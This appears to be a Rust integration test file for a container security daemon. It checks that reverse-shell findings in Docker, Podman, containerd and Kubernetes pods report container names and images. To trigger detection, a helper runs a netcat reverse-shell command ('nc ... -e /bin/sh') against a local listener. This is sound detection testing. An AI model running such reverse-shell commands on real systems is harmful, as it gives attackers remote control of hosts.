//! Names and images of containers, as the runtimes have them on disk.

use std::process::{Command, Stdio};

use crate::attack::Identity;
use crate::common::attacker::Listener;
use crate::common::daemon::{Daemon, tetherd};
use crate::common::finding::Finding;
use crate::common::victim::Victim;
use crate::containerd::Containerd;
use crate::cri::{NAMESPACE, Pod};
use crate::docker::Docker;
use crate::image::NAME;
use crate::podman::Podman;
use crate::{require_containerd, require_docker, require_podman};

/// A finding, and what the command line says of it.
struct Seen {
    record: Finding,
    shown: String,
}

/// The finding of a reverse shell in a container, by a daemon that has been told where the runtime keeps its files.
fn found(key: &str, directory: &str, identity: Identity, start: &dyn Fn(&str) -> Command) -> Seen {
    // The tests' machine may be busy; nothing may be late.
    let daemon = Daemon::start(&format!("[enrich]\ndigest_wait_ms = 1000\n{key} = [\"{directory}\"]\n"));
    let attacker = Listener::tcp();
    let mut command = start(&format!("nc 127.0.0.1 {} -e /bin/sh", attacker.port()));
    command.stdin(Stdio::null()).stdout(Stdio::null());
    let victim = Victim::spawn(command);
    let session = attacker.accept();
    let found = daemon.wait_for("the reverse shell", |record| record.peer_port() == Some(attacker.port()));
    identity.is_in(&found);
    drop((session, victim));
    let spool = daemon.place().spool().display().to_string();
    let output = tetherd(&["show", found.id(), "--spool", &spool]);
    Seen { shown: String::from_utf8(output.stdout).unwrap(), record: found }
}

/// Name and image, wherever they have to be.
fn named(seen: &Seen, name: &str) {
    let found = &seen.record;
    let container = &found.0["finding"]["containers"][0];
    let brief = found.0.to_string();
    assert_eq!((&container["name"], &container["uri"]), (&name.into(), &NAME.into()), "{brief}");
    assert_eq!(found.text("Container_Name"), name, "{brief}");
    assert_eq!(found.text("Container_Image_Uri"), NAME, "{brief}");
    assert_eq!(found.property("Enrichment_Status")["missing"], serde_json::json!([]), "{brief}");
    let kind = found.property("Executable_Origin")["kind"].as_str().unwrap_or_default().to_owned();
    assert!(["image", "unknown", "added"].contains(&kind.as_str()), "{kind}: {brief}");
    for line in [format!("container {name} {}", &found.text("Container_Id")[..12]), format!("image {NAME}")] {
        assert!(seen.shown.contains(&line), "{line}: {}", seen.shown);
    }
}

#[test]
fn names_of_docker() {
    require_docker!();
    let container = Docker::shared().sleeper();
    let identity = Identity::new(&container.id, "docker");
    let root = container.docker.home.text("root");
    let found = found("docker_directories", &root, identity, &|line| container.exec(line));
    named(&found, &container.name);
    let own = &found.record.0["finding"]["containers"][0];
    assert!(own["imageId"].as_str().unwrap().starts_with("sha256:"), "{own}");
    assert!(own["createTime"].as_str().unwrap().ends_with('Z'), "{own}");
}

#[test]
fn names_of_podman() {
    require_podman!();
    for runtime in ["runc", "crun"] {
        let container = Podman::shared().sleeper(runtime);
        let identity = Identity::new(&container.id, "podman");
        let root = container.podman.home.text("root");
        let found = found("storage_directories", &root, identity, &|line| container.exec(line));
        named(&found, &container.name);
        let own = &found.record.0["finding"]["containers"][0];
        assert!(own["imageId"].as_str().is_some_and(|id| id.len() == 64), "{runtime}: {own}");
    }
}

/// Its id is its name; its image is in containerd's database alone, and the record says so.
#[test]
fn names_of_ctr() {
    require_containerd!();
    let task = Containerd::shared().sleeper();
    let identity = Identity::new(&task.id, "containerd");
    let state = task.containerd.home.text("state");
    let Seen { record, shown } = found("containerd_directories", &state, identity, &|line| task.exec(line));
    assert_eq!(record.text("Container_Name"), task.id);
    assert_eq!(record.0["finding"]["containers"][0]["name"], task.id.as_str());
    let missing = record.property("Enrichment_Status")["missing"].to_string();
    assert!(missing.contains("container's image: containerd has it in its database alone"), "{missing}");
    assert!(!missing.contains("container's name"), "{missing}");
    assert!(shown.contains(&format!("container {}", task.id)), "{shown}");
}

/// Asked, containerd says what its database has.
#[test]
fn names_of_ctr_by_the_socket() {
    require_containerd!();
    let containerd = Containerd::shared();
    let more = format!("cri = \"{}\"\ncontainerd_directories", containerd.socket());
    let state = containerd.home.text("state");
    let task = containerd.sleeper();
    let seen = found(&more, &state, Identity::new(&task.id, "containerd"), &|line| task.exec(line));
    let record = &seen.record;
    assert_eq!((record.text("Container_Name"), record.text("Container_Image_Uri")), (task.id.as_str(), NAME));
    assert_eq!(record.property("Enrichment_Status")["missing"], serde_json::json!([]), "{record:?}");
    let own = &record.0["finding"]["containers"][0];
    assert_eq!((&own["name"], &own["uri"]), (&task.id.as_str().into(), &NAME.into()), "{own}");
    assert!(own["createTime"].as_str().is_some_and(|time| time.starts_with("20")), "{own}");

    // As nerdctl has them: a long id, its own form of cgroup, and the name as a label.
    let id = format!("{}{}", "0123456789abcdef".repeat(3), "fedcba9876543210");
    let group = format!("system.slice/nerdctl-{id}.scope");
    let task = containerd.sleeper_called(&id, &format!("--cgroup /{group} --label nerdctl/name=web"), &group);
    let seen = found(&more, &state, Identity::new(&task.id, "nerdctl"), &|line| task.exec(line));
    named(&seen, "web");
}

#[test]
fn names_of_pods() {
    require_containerd!();
    let pod = Pod::run("sleep 600");
    let identity = Identity { pod_uid: &pod.uid, ..Identity::new(&pod.id, "containerd") };
    let state = pod.containerd.home.text("state");
    let found = found("containerd_directories", &state, identity, &|line| pod.exec(line));
    named(&found, "app");
    assert_eq!(
        (found.record.text("Pod_Name"), found.record.text("Pod_Namespace")),
        (pod.name.as_str(), NAMESPACE)
    );
    let place = format!("{NAMESPACE}/{}", pod.name);
    assert!(found.shown.contains(&format!("pod {place}")), "{}", found.shown);
    let own = &found.record.0["finding"]["kubernetes"]["pods"][0];
    assert_eq!((&own["name"], &own["ns"]), (&pod.name.as_str().into(), &NAMESPACE.into()), "{own}");
    assert_eq!(own["containers"][0]["name"], "app", "{own}");
}
